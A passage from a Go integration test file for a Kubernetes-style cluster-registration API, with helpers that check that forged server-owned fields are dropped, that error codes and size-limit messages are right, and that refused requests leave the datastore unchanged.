			r, err := newJoiner(prefix+"owned").register(ctx, c, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}}, func(r *api.ClusterRegistration) {
				r.Spec.TokenID, r.Spec.MachineUID = "someoneelse", "d81f1d07-113d-4cf1-b8b1-c346eb3cf68a"
				r.Spec.NodePasswordHash, r.Spec.VerifiedNodePassword = "sha256$v1$00$00", "forged"
			})
			if err == nil && (r.Spec.TokenID != tokenID || r.Spec.MachineUID != "" || r.Spec.VerifiedNodePassword == "forged" || r.Spec.NodePasswordHash == "sha256$v1$00$00") {
				return fmt.Errorf("the client's server-owned fields were kept: %+v", r.Spec)
			}
			return err
		}},
	}
}

// settle waits until the datastore has not changed for two token-use flush
// intervals and returns its snapshot.
func settle(t *testing.T, ctx context.Context, admin clientset.Interface) string {
	t.Helper()
	const quiet = 2500 * time.Millisecond
	last, since := datastoreSnapshot(t, ctx, admin), time.Now()
	waitFor(t, 30*time.Second, "the datastore to settle", func() bool {
		now := datastoreSnapshot(t, ctx, admin)
		if now != last {
			last, since = now, time.Now()
		}
		return time.Since(since) >= quiet
	})
	return last
}

// renew is a renewal by j's agent (its clientID and node password) with
// its certificate c, changed by mutate.
func renew(j *joiner, c clientset.Interface, mutate func(*api.ClusterRegistration)) func(ctx context.Context) error {
	return func(ctx context.Context) error {
		again := *j
		_, err := again.register(ctx, c, metav1.CreateOptions{}, mutate)
		return err
	}
}

// checkAnswer checks err's HTTP status code against codes (0: success) and
// its message against words.
func checkAnswer(t *testing.T, err error, codes []int32, words []string) {
	t.Helper()
	var code int32
	if err != nil {
		code = -1
		var status apierrors.APIStatus
		if errors.As(err, &status) {
			code = status.Status().Code
		}
	}
	t.Logf("answer: %d %v", code, err)
	ok := false
	for _, c := range codes {
		ok = ok || c == code
	}
	if !ok {
		t.Errorf("answer %d (%s: %v), want %v", code, apierrors.ReasonForError(err), err, codes)
		return
	}
	if code == 413 {
		// A body refused for its size before it is decoded cannot name a
		// field; it must say the limit.
		if msg := strings.ToLower(err.Error()); !strings.Contains(msg, "limit") && !strings.Contains(msg, "at most") && !strings.Contains(msg, "more than") {
			t.Errorf("a 413 that does not say the limit: %q", err)
		}
		return
	}
	for _, w := range words {
		if !strings.Contains(err.Error(), w) {
			t.Errorf("message %q does not mention %q", err, w)
		}
	}
}

// datastoreSnapshot lists every object a request of the matrix could touch
// with its UID and resourceVersion: any write changes the latter.
func datastoreSnapshot(t *testing.T, ctx context.Context, admin clientset.Interface) string {
	t.Helper()
	m := admin.MusterV1alpha1()
	var lines []string
	note := func(kind string, items []metav1.Object, err error) {
		if err != nil {
			t.Fatalf("listing %s: %v", kind, err)
		}
		for _, o := range items {
			lines = append(lines, fmt.Sprintf("%s/%s uid=%s rv=%s%s", kind, o.GetName(), o.GetUID(), o.GetResourceVersion(), statusOf(o)))
		}
	}
	opts := metav1.ListOptions{}
	clusters, err := m.Clusters().List(ctx, opts)
	note("clusters", itemsOf(err, func() []metav1.Object { return metaOf(clusters.Items) }), err)
	machines, err := m.Machines().List(ctx, opts)
	note("machines", itemsOf(err, func() []metav1.Object { return metaOf(machines.Items) }), err)
	plans, err := m.MachinePlans().List(ctx, opts)
	note("machineplans", itemsOf(err, func() []metav1.Object { return metaOf(plans.Items) }), err)
	passwords, err := m.NodePasswords().List(ctx, opts)
	note("nodepasswords", itemsOf(err, func() []metav1.Object { return metaOf(passwords.Items) }), err)
	regs, err := m.ClusterRegistrations().List(ctx, opts)
	note("clusterregistrations", itemsOf(err, func() []metav1.Object { return metaOf(regs.Items) }), err)
	tokens, err := m.ClusterRegistrationTokens().List(ctx, opts)
	note("clusterregistrationtokens", itemsOf(err, func() []metav1.Object { return metaOf(tokens.Items) }), err)
	sort.Strings(lines)
	return strings.Join(lines, "\n")
}

// statusOf shows the small statuses (a token's uses, a cluster's counts) so
// that a diff says what changed.
func statusOf(o metav1.Object) string {
	var status interface{}
	switch o := o.(type) {
	case *api.ClusterRegistrationToken:
		status = o.Status
	case *api.Cluster:
		status = o.Status
	default:
		return ""
	}
	b, _ := json.Marshal(status)
	return " status=" + string(b)
}

// itemsOf is the metadata of a list's items, or nothing when the list failed.
func itemsOf(err error, items func() []metav1.Object) []metav1.Object {
	if err != nil {
		return nil
	}
	return items()
}

// metaOf returns the object metadata of each item of a typed list.
func metaOf[T any, PT interface {
	*T
	metav1.Object
}](items []T) []metav1.Object {
	out := make([]metav1.Object, len(items))
	for i := range items {
		out[i] = PT(&items[i])
	}
	return out
}

// snapshotDiff shows the lines only before has (-) and only after has (+).
func snapshotDiff(before, after string) string {
	in := func(s string) map[string]bool {
		m := map[string]bool{}
		for _, l := range strings.Split(s, "\n") {
			m[l] = true
		}
		return m
	}
	b, a := in(before), in(after)
	var out []string
	for l := range b {
		if !a[l] {
			out = append(out, "- "+l)
		}
	}
	for l := range a {
		if !b[l] {
			out = append(out, "+ "+l)
		}
	}
	sort.Strings(out)
	return strings.Join(out, "\n")
}

// watchErr stops a watch that was (wrongly) allowed and returns the
// refusal of one that was not.
func watchErr(w interface{ Stop() }, err error) error {
	if err == nil {
		w.Stop()
		return errors.New("the watch was allowed")
	}
	return err
}

// agentPatch merge-patches the status of the agent's own Machine (or plan).
func agentPatch(m typed.MusterV1alpha1Interface, plan bool, patch string) func(ctx context.Context) error {
	return agentPatchOf(m, "matrix-a", plan, patch)
}

// agentPatchOf merge-patches the status of Machine (or plan) name.
func agentPatchOf(m typed.MusterV1alpha1Interface, name string, plan bool, patch string) func(ctx context.Context) error {
	return func(ctx context.Context) error {
		var err error
		if plan {
			_, err = m.MachinePlans().Patch(ctx, name, types.MergePatchType, []byte(patch), metav1.PatchOptions{}, "status")
		} else {
			_, err = m.Machines().Patch(ctx, name, types.MergePatchType, []byte(patch), metav1.PatchOptions{}, "status")
		}
		return err
	}
}

func addressesPatch(n int, typ string) string {
	addrs := make([]string, n)
	for i := range addrs {
		addrs[i] = fmt.Sprintf(`{"type":%q,"address":"10.1.0.%d"}`, typ, i)
	}
	return `{"status":{"addresses":[` + strings.Join(addrs, ",") + `]}}`
}

func outputPatch(n int) string {
	recs := make([]string, n)
	for i := range recs {
		recs[i] = fmt.Sprintf(`{"name":"step-%d","exitCode":0,"output":%q}`, i, strings.Repeat("o", 1000))
	}
	return `{"status":{"state":"failed","failureCount":1,"output":[` + strings.Join(recs, ",") + `]}}`
}

func probesPatch(n int) string {
	recs := make([]string, n)
	for i := range recs {
		recs[i] = fmt.Sprintf(`{"name":"probe-%d","healthy":true}`, i)
	}
	return `{"status":{"probes":[` + strings.Join(recs, ",") + `]}}`
}

// rsaCSR is a CSR for a fresh RSA key of bits.
func rsaCSR(bits int) []byte {
	key, err := rsa.GenerateKey(rand.Reader, bits)
	if err != nil {
		panic(err)
	}
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: pkix.Name{CommonName: "rsa"}}, key)
	if err != nil {
		panic(err)
	}
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der})
}
